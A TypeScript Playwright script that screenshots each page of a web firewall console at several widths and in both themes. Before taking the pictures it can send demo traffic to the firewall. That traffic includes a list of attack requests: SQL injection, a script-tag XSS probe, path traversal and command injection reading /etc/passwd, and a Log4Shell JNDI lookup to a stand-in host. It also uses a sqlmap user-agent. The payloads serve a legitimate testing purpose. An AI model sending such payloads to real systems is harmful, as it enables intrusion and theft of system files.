// Pictures of every page of a running console, in each width and both themes, to be looked at one by one:
//   node build/console/e2e/screenshots.js DIRECTORY --password-file FILE [--url http://127.0.0.1:3010]
//     [--email admin@gatehouse.local] [--waf http://127.0.0.1:8080] [--only /soc] [--width 390] [--theme light]
// With --waf it sends ordinary requests and attacks to that port first, so that the pages have something to show.
// A page that does not come to rest is named, the others are pictured all the same; it then ends with 1.
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import type { Browser, Page } from 'playwright-core';
import { consoleFlags, launchChromium, logInAs, passwordIn, settled, watchRequests } from './browser.js';
import { loggedInPaths, publicPaths } from './pages.js';

const widths = [1440, 1024, 390];
const themes = ['dark', 'light'] as const;

const ordinary = ['/', '/search?q=coat', '/products/7', '/cart', '/api/orders?page=2', '/about', '/login'];
const attacks = [
  "/search?q=1'%20OR%20'1'='1",
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/download?file=../../../../etc/passwd',
  '/tools/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/?x=$%7Bjndi:ldap://evil.example/a%7D',
];

async function sendTraffic(waf: string): Promise<void> {
  for (let round = 0; round < 20; round += 1) {
    for (const path of ordinary) await fetch(waf + path, { headers: { 'user-agent': 'Mozilla/5.0' } });
    const attack = attacks[round % attacks.length] ?? '/';
    await fetch(waf + attack, { headers: { 'user-agent': round % 3 === 0 ? 'sqlmap/1.8' : 'Mozilla/5.0' } });
  }
}

const nameOf = (path: string): string =>
  path
    .replaceAll(/[/?=&]/g, '-')
    .replace(/^-$/, '-overview')
    .slice(1);

async function open(browser: Browser, url: string, width: number, theme: 'dark' | 'light'): Promise<Page> {
  const context = await browser.newContext({
    baseURL: url,
    viewport: { width, height: 900 },
    colorScheme: theme,
    reducedMotion: 'reduce',
  });
  const page = await context.newPage();
  watchRequests(page);
  return page;
}

/** Returns what kept the page from coming to rest, or null; it is pictured as it is then. */
async function picture(page: Page, path: string, file: string): Promise<string | null> {
  let problem: string | null = null;
  try {
    await page.goto(path);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await settled(page);
  } catch (error) {
    problem = error instanceof Error ? (error.message.split('\n')[0] ?? '') : String(error);
  }
  await page.screenshot({ path: file, fullPage: values.whole });
  const wide = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  if (wide > 0) console.log(`${file}: ${wide} px wider than its window`);
  return problem;
}

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: {
    ...consoleFlags,
    waf: { type: 'string' },
    only: { type: 'string' },
    width: { type: 'string' },
    theme: { type: 'string' },
    whole: { type: 'boolean', default: false },
  },
});
const [directory = 'screenshots'] = positionals;
mkdirSync(directory, { recursive: true });
if (values.waf !== undefined) await sendTraffic(values.waf);
const browser = await launchChromium();
for (const width of widths.filter((one) => String(one) === (values.width ?? String(one))))
  for (const theme of themes.filter((one) => one === (values.theme ?? one))) {
    const page = await open(browser, values.url, width, theme);
    const paths = [...publicPaths, ...loggedInPaths].filter((path) => (values.only ?? path) === path);
    for (const path of paths) {
      if (!publicPaths.includes(path) && (await page.locator('.shell').count()) === 0)
        await logInAs(page, values.email, passwordIn(values));
      const file = join(directory, `${nameOf(path)}-${width}-${theme}.png`);
      const problem = await picture(page, path, file);
      if (problem === null) continue;
      console.log(`${path} at ${width} px, ${theme}: ${problem}`);
      process.exitCode = 1;
    }
    await page.context().close();
  }
await browser.close();
